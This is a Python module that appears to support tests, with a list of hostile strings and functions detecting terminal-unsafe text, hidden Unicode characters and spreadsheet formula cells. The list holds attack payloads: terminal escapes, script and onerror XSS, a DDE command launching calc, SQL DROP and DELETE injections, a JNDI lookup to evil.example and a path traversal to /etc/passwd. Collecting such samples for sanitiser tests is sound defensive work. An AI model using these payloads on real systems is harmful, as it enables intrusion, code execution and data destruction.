"""Names that mean harm, and how to tell that a text does none."""

import re
import unicodedata

HOSTILE = [
    "\x1b[31mred\x1b[0m",
    "\x1b]8;;https://evil.example\x1b\\link",
    "\x1b]0;title\x07\x9b2J",
    "[bold]markup[/bold] [link=https://evil.example]x[/link] [/]",
    "a\nb\r\nc\x85d\u2028e\x0bf",
    "\u202egnp.exe\u2066x",
    "zero\u200bwidth\ufeff\u2060\u00ad",
    "filler\u3164\u115f\uffa0\u2800",
    "mark\u0301\u0302\u0303" + "\u0336" * 500,
    "\u0301begins with a mark",
    "\U000e0041\U000e0100tag ❤\ufe0f",
    "family 👩\u200d👩\u200d👧 🇨🇳 👍",
    "| pipe | `code` <script>alert(1)</script> [x](https://evil.example) www.evil.example",
    "![i](HTTPS://evil.example/p.png) <img src=x onerror=alert(1)> &lt;b&gt; WWW.evil.example",
    "**bold** _it_ ~~gone~~ # h $x$ :tada: someone@evil.example \\",
    "=cmd()|' /C calc'!A0",
    "+1",
    "-1",
    "@sum",
    "\t=1",
    "\r=1",
    " =1",
    '"=1"',
    "'=1",
    "x;=1;-2",
    "＝1",
    "x" * 900,
    "通" * 900,
    "'; DROP TABLE entries; --",
    '"; DELETE FROM models; "',
    "nul\x00end",
    "lone \ud800 \udfff",
    "\udcff",
    "通义千问" * 10,
    "%s %n {0} {x!r} ${jndi:ldap://evil.example/a}",
    "../../../etc/passwd",
    "Same",
    "SAME",
    "\u00c5ngstr\u00f6m",
    "A\u030angstro\u0308m",
]

HIDDEN = re.compile(
    "[\u034f\u115f\u1160\u17b4\u17b5\u180b-\u180f\u2800\u3164\ufe00-\ufe0f\uffa0"
    "\U000e0000-\U000e0fff]"
)


def harmless(text: str) -> bool:
    """Whether nothing in a text but its line ends is obeyed, or hidden, by a terminal."""
    lines = text.split("\n")
    piled = re.search("[\u0300-\u036f]{5}", text)
    return all(line.isprintable() for line in lines) and not piled and not HIDDEN.search(text)


def is_formula(cell: str) -> bool:
    """Whether a spreadsheet might reckon with a cell, or with a part behind a semicolon."""
    return any(re.match(r"""["\s]*[=+\-@＝＋－＠]""", part) for part in cell.split(";"))


def width(text: str) -> int:
    """The cells that a text takes on a terminal, by Unicode's East Asian Width (UAX 11)."""
    return sum(
        0
        if unicodedata.category(char) in ("Mn", "Me")
        else 2
        if unicodedata.east_asian_width(char) in "WF"
        else 1
        for char in text
    )


def cut(text: str, start: int) -> str:
    """What begins at a cell of a line."""
    at = 0
    for number, char in enumerate(text):
        if at >= start:
            return text[number:]
        at += width(char)
    return ""
